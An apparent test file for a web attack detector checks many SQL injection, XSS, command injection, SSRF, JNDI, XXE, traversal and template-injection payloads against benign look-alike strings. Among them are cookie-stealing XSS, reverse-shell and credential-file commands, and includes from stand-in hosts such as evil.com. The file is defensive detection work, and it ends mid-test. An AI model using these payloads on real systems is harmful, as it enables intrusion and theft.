import { AttackClass, detectAttacks, ALL_VALUE_CLASSES, lastRule, detectAttackInUrlHeader, detectAttackInForm, detectAttackAny } from "../attack";

function bits(s: string): u32 {
  const b = String.UTF8.encode(s);
  return detectAttacks(changetype<usize>(b), b.byteLength, ALL_VALUE_CLASSES);
}
function hits(s: string, c: AttackClass): bool { return (bits(s) & (1 << <u32>c)) != 0; }
function clean(s: string): bool { return bits(s) == 0; }

describe("sqli", () => {
  it("flags string breakouts, tautologies, unions, stacked queries and time-based probes", () => {
    const attacks: StaticArray<string> = [
      "' or 1=1--", "admin'--", "' OR 'a'='a", "1 OR 1=1", "1' and sleep(5)#", "-1 UNION SELECT username, password FROM users",
      "1;DROP TABLE users", "'; exec xp_cmdshell 'dir'--", "1 AND extractvalue(1,concat(0x7e,version()))", "' UnIoN/**/SeLeCt 1,2,3--",
      "%27%20OR%201%3D1--", "%2527%2520or%25201%253D1--", "1) or (1=1", "' or true--", "1/*!50000union*/select 1", "\" or \"\"=\"",
      "' and 1=(select count(*) from users)--", "1 waitfor delay '0:0:5'", "') or ('1'='1", "' order by 3--",
    ];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
  });
  it("does not flag prose, names and code-fenced docs", () => {
    const benign: StaticArray<string> = [
      "select a drop-off point", "O'Brien", "Please select an option from the list", "Tom's order or Jane's", "It's 1 or 2 days",
      "Bob's burgers; and fries", "```sql\nSELECT * FROM users WHERE id = 1;\n```", "union station", "I'd like to drop by",
      "rock 'n' roll", "Delete my account please", "1-800-FLOWERS", "and/or", "v1.2.3", "Mc'Donald and O'Neil",
    ];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("flags a tautology whose quotes slipped and a statement with its object after the closed string (CSIC 2010)", () => {
    const sql: StaticArray<string> = ["'OR'a='a", "1'OR'a='a", "Vaciar carrito'OR'a='a", "x'or'1='1", "' DELETE FROM USERS", "1es8r59z6' DELETE FROM USERS",
      "'drop table users;", "' update users set x=1", "' insert into log where", "x' truncate table t -- "];
    for (let i = 0; i < sql.length; i++) expect(hits(sql[i], AttackClass.Sqli)).toBe(true, sql[i]);
    // Another operand after the string, a quoted phrase with its closing quote, a statement word without its object.
    const benign: StaticArray<string> = ["'OR'a='b", "Click 'delete from cart' now", "'delete from cart' fails", "'Update profile set' button",
      "it's 'or'a=' a", "' delete me from the list", "'drop table' is a command", "' update your settings"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("reads sqlmap's boundaries: closed parentheses, an alias before WHERE, comments as blanks, clause words before calls", () => {
    const sql: StaticArray<string> = [
      "))/**/aNd/**/8823=6740/**/aNd/**/((3350=3350", ")/**/And/**/3801=1067", "))/**/oR/**/NOt/**/9708=8767/**/AnD/**/((2291=2291",
      "')/**/orDer/**/bY/**/1--/**/xqoL", "-5830\")/**/WHere/**/5397=5397/**/Or/**/9407=9407--/**/qyEa",
      ")/**/aS/**/UGVL/**/wHerE/**/2666=2666/**/AnD/**/7061=3377--/**/lTWt", "\"))/**/aS/**/YAdo/**/whERe/**/4050=4050/**/oRDEr/**/By/**/1--/**/BAll",
      " AS INJECTX WHERE 1=1 AND 1=0", "/**/HaVIng/**/7034=1552", "p'||(sELect/**/FYeT/**/WHERe/**/9107=9107/**/aND/**/1158=5011)||'",
      "1' in boolean mode) and 5725=5552#", "1)) as xroy where 3274=3274;iif(3760=4785,1,1/0)", "ORDER BY SLEEP(5)",
      "select case when substring(column,1,1)='1' then pg_sleep(5) else pg_sleep(0) end from column_name limit 1", "select current_user;",
      "\" or isNULL(1/0) /*", "0 div 1 union#foo*/*bar\nselect#foo\n1,2,current_user", "#?zen?\nunion all#zen\n#Zen\nselect",
      "select distinct name from users", "x=utl_inaddr.get_host_address('x')", "9999 or /*+optimizer hint */ true", "1) or true",
      "SELECT x GROUP BY SOMETHING HAVING COUNT(Id) >= 9",
    ];
    for (let i = 0; i < sql.length; i++) expect(hits(sql[i], AttackClass.Sqli)).toBe(true, sql[i]);
    const benign: StaticArray<string> = ["It's 1 or 2 days", ") and then 5 more", ":) or 1 more", "it's where i live", "Select user", "select the box where 1 is",
      "(known as Bob) where 5 = 5", "ranked by benchmark(s) from 2019", "eat, then sleep(8 hours)", "Great day\n#sunset\n#beach", "known as Bob where 1=1",
      "x isnull(y)", "=IIf([Qty]>10,1,0)", "iif(x=1, 'a', 'b')", "Select distinct colors from the palette", "2 or 3", "1 and true", "5 or true stories",
      "Is it 1 or true?", "select the group by size having fun"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("reads a licence's \"AS IS\" as words, and NOT LIKE after a closed string as SQL", () => {
    const licences: StaticArray<string> = ["THE SOFTWARE IS PROVIDED \"AS IS\", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED",
      "THE SOFTWARE IS PROVIDED 'AS IS', WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED", "GNU grep is provided \"as is\" with no warranty."];
    for (let i = 0; i < licences.length; i++) expect(hits(licences[i], AttackClass.Sqli)).toBe(false, licences[i]);
    const sql: StaticArray<string> = ["A' NOT LIKE 'B", "' NOT REGEXP '", "' having 1=1--", "' limit 1 --"];
    for (let i = 0; i < sql.length; i++) expect(hits(sql[i], AttackClass.Sqli)).toBe(true, sql[i]);
  });
  it("reads a command's long option as a word, and dashes after a closed string as a comment", () => {
    const docs: StaticArray<string> = ["* Configure with \"--disable-root-environ\" to disallow loading of", "run it with --no-cache and '--dry-run' please", "--dry-run is safe"];
    for (let i = 0; i < docs.length; i++) expect(hits(docs[i], AttackClass.Sqli)).toBe(false, docs[i]);
    const sql: StaticArray<string> = ["admin'--", "admin'--a-b", "x' --no-cache", "' --+"];
    for (let i = 0; i < sql.length; i++) expect(hits(sql[i], AttackClass.Sqli)).toBe(true, sql[i]);
  });
  it("flags a login value that closes the string and ends the statement, not measures or names", () => {
    const probes: StaticArray<string> = ["admin';", "admin@juice-sh.op\";", "root@example.com'/* comment */;"];
    for (let i = 0; i < probes.length; i++) expect(hits(probes[i], AttackClass.Sqli)).toBe(true, probes[i]);
    const benign: StaticArray<string> = ["DRESS WITH HAT 18';", "5'11\";", "18';", "O'Brien;", "It's done;", "He said 'no';", "x = 'a';"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("reads a hyphen joining two words as part of a word, not as minus (slugs, CSS classes)", () => {
    const slugs: StaticArray<string> = ["select-all", "select-a-plan", "/select-quote", ".select-gws-banana", "select-from-users", "a-select-b"];
    for (let i = 0; i < slugs.length; i++) expect(hits(slugs[i], AttackClass.Sqli)).toBe(false, slugs[i]);
    // A minus before a number, after a blank, or a column list stays SQL.
    const sql: StaticArray<string> = ["select-1", "select -a from t", "select * from users", "select-1,2,3", "1 union select-1"];
    for (let i = 0; i < sql.length; i++) expect(hits(sql[i], AttackClass.Sqli)).toBe(true, sql[i]);
  });
});

describe("commands after a separator: configuration managers, package tools, hyphenated names (cmdi)", () => {
  it("flags them run after ';', '&' or '|', not in prose", () => {
    const attacks: StaticArray<string> = ["cd /;cd etc;column passwd", ";cpulimit -l 100 -f whoami", ";rmt --version", "arg;rmt-tar", "&aptitude", "x|apt-get install nc"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["; cd player is broken", "Buy it; apt-get is easy", "use apt-get install nginx", "perf is great; perf tips", "x;ls-la"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("PHP: a function named by a variable, in the shapes that hide it (cmdi)", () => {
  it("flags indexed, braced, doubled and suppressed variable calls, not templates, prices or empty brackets", () => {
    const calls: StaticArray<string> = ["$__[o](4)", "@$__[o](4)", "${@$b}(12)", "$OOO000000{0}(15)", "$_aB_4c[5][\"d\"] /*lol*/ (17)",
      "$_aB_4c #foo\r\n\t[5]//bar\r\n\t[\"d\"] /*foo*/ (17)", "$$$z(29)", "$foo->$funcname()", "Foo::$variable()", "@$b374k(\"foo\")",
      // A plain variable called with a number (how obfuscated PHP builds its calls).
      "$a(1)", "$_(3)", "$OOO0000O0 (16)", "$function\r\n (23)", "$f(101).$f(120)"];
    for (let i = 0; i < calls.length; i++) expect(hits(calls[i], AttackClass.Cmdi)).toBe(true, calls[i]);
    // The callable in parentheses with a bare command (PHP reads an unknown constant as its name).
    expect(hits("(system)(ls);", AttackClass.Cmdi)).toBe(true);
    expect(hits("(the system)(id)", AttackClass.Cmdi)).toBe(false);
    const benign: StaticArray<string> = ["$t(\"hello\")", "$emit(\"x\")", "this.$refs[\"x\"]()", "price $5 (approx)", "$(document).ready()", "echo $arr[1] (one)",
      "Total: ${items[0]} (approx)", "$a[]()", "${}()", "$a{}()", "$(1)", "this.$refs(1)", "$emit(1, 2)", "price $x (12345678)"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("a callable's name split into concatenated pieces, or bracketed and called (cmdi, xss)", () => {
  it("joins quoted pieces across . + & || and blanks, in PHP, VBScript, JavaScript and SQL", () => {
    const code: StaticArray<string> = ["$y = 'sys'.'tem';($y)('uname');", "define('x', 'sys' . 'tem');(x)/* comment */('uname');",
      "( string ) \"sys\".\"t\".\"em\" ('uname');", "Ev al (\"Ex\"&\"e\"&\"cute(\"\"Server.ScriptTimeout=3600:On Error Resume Next",
      "'ev'+'al'", "x = 'ex' + 'ec'", "'sys'||'tem'", "('pass' . /* c */ 'thru')('id')"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Cmdi)).toBe(true, code[i]);
    expect(hits("x='al'+'ert';window[x](1)", AttackClass.Xss)).toBe(true);
    expect(hits("'pro' + 'mpt(1)'", AttackClass.Xss)).toBe(true);
  });
  it("flags PHP's short echo tag with an expression and Smarty's {php} tags", () => {
    const code: StaticArray<string> = ["<?= \"test\"", "<?=1?>", "<?=$x?>", "{php}test{/php}", "echo \"test\"{/PHP}", "{php}echo 1;"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Cmdi)).toBe(true, code[i]);
    const benign: StaticArray<string> = ["a <?=", "<?= ", "test<?", "{phpinfo}", "the php tag {php-docs}", "<?xml version=\"1.0\"?>"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
  it("flags a bare callable in brackets or parentheses, indexed, then called", () => {
    const code: StaticArray<string> = ["[system][0](ls);", "[ system ] [ 0 ] ( ls );", "(['system'])[0]('uname');", "(/* comment */system)(ls/* comment */);",
      "(  [  system  ][  0  ])  {/* comment */0}  (  ls  );", "(string) {[system][0]} ('uname');"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Cmdi)).toBe(true, code[i]);
  });
  it("leaves quoted words in prose, whole names in one piece and Markdown links alone", () => {
    const benign: StaticArray<string> = ["\"He said \"\"exec\"\" twice\"", "He said 'al' and 'ert'", "'system' + 'tem'", "'e' 'v' 'a' 'l' 's'",
      "'ex' 'ecutive summary'", "[system](https://example.com/docs)", "see [exec] (below)", "the (exec) (2) call", "'Sys' 'Admin'", "'a' + 'b' + 'c'"];
    for (let i = 0; i < benign.length; i++) {
      expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
      expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
    }
  });
});

describe("Node.js code: the Function constructor and the process indexed by a name (cmdi)", () => {
  it("flags them without a call after them, not names of their own", () => {
    const code: StaticArray<string> = ["this.constructor.constructor", "''.constructor.constructor", "process[\"env\"]", "require[req.query.a"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Cmdi)).toBe(true, code[i]);
    const benign: StaticArray<string> = ["the process [1] is", "myprocess[x]", "x.process['a']", "constructor.name", "process[0]"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("the Function constructor called by name (cmdi)", () => {
  it("flags new Function( with a string, ')' or nothing after it, not prose or other names", () => {
    const code: StaticArray<string> = ["new Function (\"return process\")()", "new Function(", "new  function ( 'x' )", "new Function()", "x = new Function(`a`, `b`)"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Cmdi)).toBe(true, code[i]);
    const benign: StaticArray<string> = ["a new function (see docs)", "the new functional(1) api", "renew function(x)", "new Function", "newFunction(1)", "new Function x ("];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("a loop on a constant sent to an eval (cmdi: Node.js denial of service)", () => {
  it("flags while on a true constant and for(;;) as the whole value, not loops that end or prose", () => {
    const loops: StaticArray<string> = ["while(true)", "while(!false)", "while(!-0);", "while(-1);", "while(!'')", "while(!!{})", "while(new Date);", "while(!null)",
      "while(Infinity)", "while((true)))", "for(;;);", "for (;;) {}"];
    for (let i = 0; i < loops.length; i++) expect(hits(loops[i], AttackClass.Cmdi)).toBe(true, loops[i]);
    const benign: StaticArray<string> = ["while(!true);", "while(0)", "while(!!'')", "while(null)", "while(i < n)", "while(x)", "while (true) we wait",
      "Meanwhile(true story)", "while(true) { doWork(); }", "while you wait (1 min)"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("xss: the page's cookie and tagged templates behind JavaScript's blanks and comments", () => {
  it("flags a cookie read sent away or hidden, and spaced tagged templates", () => {
    const attacks: StaticArray<string> = ["new Image().src='//x/?'+document.cookie", "document.cookie+'x'", "document /*foo*/ . cookie",
      "document/*foo*/./*bar*/cookie", "(document/*foo*/)[\"cookie\"]", "[  ] . sort . call ` ${ alert } 1337 `", "[ ] . /**/ sort . call ` ${ alert } 1337 `"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["document.cookie", "read document.cookie to get it", "the document . cookie policy", "document.cookies", "mydocument.cookie+1",
      "we call `make` then `make install`", "a . call ` x `"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("scanners' probes (Nessus, as logged in FWAF's bad queries)", () => {
  it("a command whose line ends in a comment, PHP concatenated after a closed call, a script URI after a quote", () => {
    const cmdi: StaticArray<string> = ["\"del q85487167&rem ", "uname\t>q63592644\t#", "'uname >q36497765 #", ";del q13157688 #", "0).system('id').("];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    expect(hits("\"javascript:alert(cross_site_scripting.nasl);\">", AttackClass.Xss)).toBe(true);
    // R building the command (opencpu), a fetch of a bare host (nuclei's CVE-2023-50094)
    expect(hits("function(x){  return(system(paste('id'), intern = T))}", AttackClass.Cmdi)).toBe(true);
    expect(hits("curl c0ffee1234.oast.fun", AttackClass.Cmdi)).toBe(true);
    // the shell named by its variable (CRS 932160)
    expect(hits("${SHELL} -c \"echo hi\"", AttackClass.Cmdi)).toBe(true);
    expect(hits("${BASH} -c ls", AttackClass.Cmdi)).toBe(true);
    expect(bits("$shell is my variable")).toBe(0);
    expect(bits("the $SHELL -c flag")).toBe(0);
    expect(bits("curl 2.x")).toBe(0);
    expect(bits("I curl my hair")).toBe(0);
    expect(bits("paste(x)")).toBe(0);
    // A line of prose that ends in '#', a quoted title, a no-op link after a quote.
    const benign: StaticArray<string> = ["type your message #", "sleep well #", "see above #", "ls #", "\"Javascript: the good parts\"", "'javascript:void(0)'"];
    for (let i = 0; i < benign.length; i++) expect(bits(benign[i])).toBe(0, benign[i]);
  });
});

describe("markup breakouts (xssed.com's reports)", () => {
  it("a quote and '/>' or closing tags before a new tag, or a comment closed before it", () => {
    const xss: StaticArray<string> = ["'\"/><img>", "\"></a><marquee>test", "- 0 --><img>", "''\"\"/><img scr=sxx! />"];
    for (let i = 0; i < xss.length; i++) expect(hits(xss[i], AttackClass.Xss)).toBe(true, xss[i]);
    const benign: StaticArray<string> = ["A --> B", "<!-- c --> <b>x</b>", "x\"/> y", "5\"> <3"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("script URIs that do nothing", () => {
  it("are the href of links a page's script handles, as analytics beacons report them; with code they are XSS", () => {
    const noop: StaticArray<string> = ["javascript:;", "javascript:void(0)", "javascript:void(0);", "javascript:void 0", "javascript:"];
    for (let i = 0; i < noop.length; i++) expect(hits(noop[i], AttackClass.Xss)).toBe(false, noop[i]);
    const code: StaticArray<string> = ["javascript:alert(1)", "javascript:void(alert(1))", "javascript:;alert(1)", "java\tscript:;", "javascript:void(0)//",
      "javascript://%0aalert(1)", "<a href=\"javascript:alert(1)\">x</a>"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Xss)).toBe(true, code[i]);
  });
});

describe("xss", () => {
  it("flags tags, handlers, script URIs and encoded forms", () => {
    const attacks: StaticArray<string> = [
      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "\" onmouseover=\"alert(1)",
      "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
      "<iframe src=//evil>", "<body onload=alert(1)>", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "%253Cscript%253E", "<details open ontoggle=alert(1)>",
      "' autofocus onfocus='alert(1)",
    ];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
  });
  it("does not flag benign markup and prose", () => {
    const benign: StaticArray<string> = ["<b>bold</b> text", "a < b and c > d", "I <3 cats", "Click on the button", "x = 1 once", "http://example.com/a?on=1"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("traversal, rfi, cmdi", () => {
  it("flags traversal in its encodings", () => {
    const attacks: StaticArray<string> = ["../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "..%c0%af..%c0%afetc", "....//....//etc/hosts", "php://filter/convert.base64-encode/resource=index.php", "/proc/self/environ", "..;/admin", "%252e%252e%252f"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Traversal)).toBe(true, attacks[i]);
  });
  it("does not flag ordinary paths and ellipses", () => {
    const benign: StaticArray<string> = ["docs/readme.md", "Wait... what?", "v1.2..3", "/api/v1/users", "file.tar.gz"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Traversal)).toBe(false, benign[i]);
  });
  it("ends a sensitive file's name where its last letter is: a longer word is another file", () => {
    const benign: StaticArray<string> = ["/guide/environments.html", "/etc/shadowsocks/config.json", "/docs/etc/passwdless-login", "/etc/hostsfile-editor"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Traversal)).toBe(false, benign[i]);
    const files: StaticArray<string> = ["/proc/self/environ", "/etc/passwd-", "/etc/passwd%00.png", "/etc/hosts.allow", "/.env.local", "/etc/shadow~"];
    for (let i = 0; i < files.length; i++) expect(hits(files[i], AttackClass.Traversal)).toBe(true, files[i]);
  });
  it("flags remote includes", () => {
    expect(hits("http://evil.example/shell.txt?", AttackClass.Rfi)).toBe(true);
    expect(hits("https://203.0.113.5/x.php", AttackClass.Rfi)).toBe(true);
    expect(hits("https://evil.example/shell.php", AttackClass.Rfi)).toBe(true);
    expect(hits("https://example.com/about", AttackClass.Rfi)).toBe(false);
    // A page of a site (a profile's website, a link) is not an include.
    expect(hits("https://ann.example.com/index.php", AttackClass.Rfi)).toBe(false);
    expect(hits("https://shop.example.com/checkout.aspx", AttackClass.Rfi)).toBe(false);
  });
  it("flags command injection, with quote and IFS obfuscation", () => {
    const attacks: StaticArray<string> = ["; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(curl http://x)", "127.0.0.1;c'a't${IFS}/etc/passwd", "x||ping -c 1 x", "%0Aid", "a;/bin/sh -i"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["Tom & Jerry", "fish; chips", "salt & pepper; vinegar", "R&D", "price: $(5)"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("ssrf, jndi, xxe, ssti", () => {
  it("flags internal hosts in every IP form", () => {
    const attacks: StaticArray<string> = ["http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://localhost:8080/admin", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f000001/", "http://0x7f.0.0.1/", "http://10.0.0.5/", "http://user@192.168.1.1/", "gopher://x:70/_", "http://[::1]/", "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:127.0.0.1]/"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["https://example.com/", "http://8.8.8.8/", "http://172.32.0.1/", "https://api.github.com/repos"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Ssrf)).toBe(false, benign[i]);
  });
  it("flags jndi lookups including nested obfuscation", () => {
    const attacks: StaticArray<string> = ["${jndi:ldap://x/a}", "${${lower:j}${upper:n}${lower:d}i:ldap://x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "${jNdI:dns://x}"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Jndi)).toBe(true, attacks[i]);
    expect(hits("${HOME}/bin", AttackClass.Jndi)).toBe(false);
  });
  it("flags XXE", () => {
    expect(hits("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", AttackClass.Xxe)).toBe(true);
    expect(hits("<!DOCTYPE html>", AttackClass.Xxe)).toBe(false);
  });
  it("flags template expressions but not plain placeholders", () => {
    const attacks: StaticArray<string> = ["{{7*7}}", "{{''.__class__.__mro__}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{% import os %}"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssti)).toBe(true, attacks[i]);
    expect(hits("Hello {{name}}", AttackClass.Ssti)).toBe(false);
    expect(hits("{\"a\":1}", AttackClass.Ssti)).toBe(false);
  });
});

describe("xss: encodings a browser or a 7-bit server undoes", () => {
  it("reads entities ended by a percent-encoded ';', split schemes, cut CSS URLs and US-ASCII tags", () => {
    const attacks: StaticArray<string> = ["&gt%3B+src+onerror=confirm&amp%3Blpar%3B1&amp%3Brpar%3B&lt%3B", "&#60%3Bscript&#62%3Balert(1)", "ja&Tab;vascript: ",
      "x=x:url(javascript", "STYLE=X:URL(JAVASCRIPT", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "%bcscript%bealert(1)%bc/script%be", "¼script¾alert(1)¼/script¾"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
  });
  it("leaves fractions, Cyrillic text, titles and escaped text alone", () => {
    const benign: StaticArray<string> = ["¼ cup sugar and ¾ cup flour", "мой дом", "Javascript: the good parts", "price &amp%3B tax", "a &lt%3B b",
      "url(javascript is bad", "3¾in"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("xss split by tags a sanitizer deletes", () => {
  it("reads the value without bare tags inside words", () => {
    const attacks: StaticArray<string> = ["\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//", "al<x>ert(1)", "<b>al</b>ert(document.cookie)",
      "autof%3Cx%3Eocus o%3Cx%3Enfocus%3Dalert%3Cx%3E(1)", "XCJhdXRvZjx4Pm9jdXMgbzx4Pm5mb2N1cz1hbGVydDx4PigxKS8v"]; // the last one base64-encoded
    for (let i = 0; i < attacks.length; i++) {
      expect(anyClass(attacks[i])).toBe(AttackClass.Xss, attacks[i]);
      expect(lastRule).toBe("xss:split-by-tags", attacks[i]);
    }
  });
  it("leaves markup between words and tags that spell nothing alone", () => {
    const benign: StaticArray<string> = ["<p>Click the <b>auto</b>focus button</p>", "x<y>z", "Use <b>bold</b> and <i>italic</i>", "Java<b>Script</b>: the good parts",
      "a<b>c</b>d on<i>line</i> store"];
    for (let i = 0; i < benign.length; i++) expect(anyClass(benign[i])).toBe(AttackClass.None, benign[i]);
  });
});

describe("normalization limits", () => {
  it("never traps on long or malformed input", () => {
    let s = "%";
    for (let i = 0; i < 12; i++) s += s + "%u12%c0%&#x;&#99999999999;${${::-";
    expect(bits(s) >= 0).toBe(true);
    expect(lastRule.length >= 0).toBe(true);
  });
});

describe("payload-list shapes found in the audit of issue #3", () => {
  it("sqli: nested parentheses, bare tautologies, a lone stacked statement, JavaScript-escaped quotes", () => {
    const attacks: StaticArray<string> = [
      "')) or (('1'='1", "1)) or ((1=1", "or 1=1", "or 0=0 --", "' or 0=0 #", ";SHUTDOWN--", "\\u0027 OR 1=1--",
    ];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["Sleep(5) hours a night is too little", "Sleep (8 hours) is healthy", "or maybe later", "or 12 pieces", "; update: shipped"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("xss: script-string breakouts, url(javascript:) in a style, JavaScript-escaped tags", () => {
    const attacks: StaticArray<string> = [
      "\"-alert(1)-\"", "'-alert(1)-'", "\\\";alert(1);//", "')+confirm`1`+('", "<div style=\"background:url(javascript:alert(1))\">",
      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cimg src=x onerror=alert(1)\\x3e",
    ];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["She said \"-Alert the team-\" loudly", "\"Hello\" - confirm (please) your booking", "'Fetch' is what my dog does",
      "<p style=\"color:red\">red</p>", "The style url(images/bg.png) works", "Use \\u00e9 for e-acute"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
  it("cmdi: brace expansion, wildcard paths, ${PATH:0:1} slashes, .exe names", () => {
    const attacks: StaticArray<string> = [";{ls,-la}", ";{cat,/etc/passwd}", ";/???/??t /???/p??s??", ";cat${PATH:0:1}etc${PATH:0:1}passwd", "& powershell.exe -enc SQBFAFgA"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["{ls, cat, dog}", "I like dogs; cat, too", "Shop #123 at 5* rating"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
  it("traversal to service-account tokens; rfi protocol-relative, but not links to application pages", () => {
    expect(hits("/var/run/secrets/kubernetes.io/serviceaccount/token", AttackClass.Traversal)).toBe(true);
    expect(hits("//evil.com/shell.php", AttackClass.Rfi)).toBe(true);
    expect(hits("http://evil.com/shell.txt?x=1", AttackClass.Rfi)).toBe(true);
    expect(hits("https://shop.example.com/cart.php?id=3&qty=2", AttackClass.Rfi)).toBe(false);
    expect(hits("//cdn.example.com/lib/app.js", AttackClass.Rfi)).toBe(false);
  });
  it("ssrf: Kubernetes API, localhost.localdomain, IPv6 loopback with leading zeros, jar: URLs", () => {
    const attacks: StaticArray<string> = ["http://kubernetes.default.svc/api/v1/secrets", "https://kubernetes.default/api", "http://localhost.localdomain/",
      "http://[0000::1]:80/", "http://[0:0:0:0:0:0:0:0]/", "jar:http://127.0.0.1!/"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
    expect(hits("http://[2001:db8::1]/", AttackClass.Ssrf)).toBe(false);
    expect(hits("http://[1::]/", AttackClass.Ssrf)).toBe(false);
  });
  it("ssti: Velocity directives and Twig filters/dump", () => {
    const attacks: StaticArray<string> = ["#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{dump(app)}}", "{{['id']|filter('system')}}", "{{_self.env.display(\"id\")}}"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssti)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["Please use #set for sets", "#hashtag #set #foreach", "Hi {{first_name}}, your order {{order_id}} shipped", "Dump truck for sale"];
    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
  });
  it("jndi: a brace written as a JavaScript escape", () => {
    expect(hits("$\\u007bjndi:ldap://evil.com/a}", AttackClass.Jndi)).toBe(true);
  });
});

describe("payload-list shapes found in the audit of issue #3 (second pass)", () => {
  it("sqli: ORDER BY column probes, %a0 as a space", () => {
    expect(hits("1 ORDER BY 1-- xYzA", AttackClass.Sqli)).toBe(true);
    expect(hits("1'%a0or%a01=1--", AttackClass.Sqli)).toBe(true);
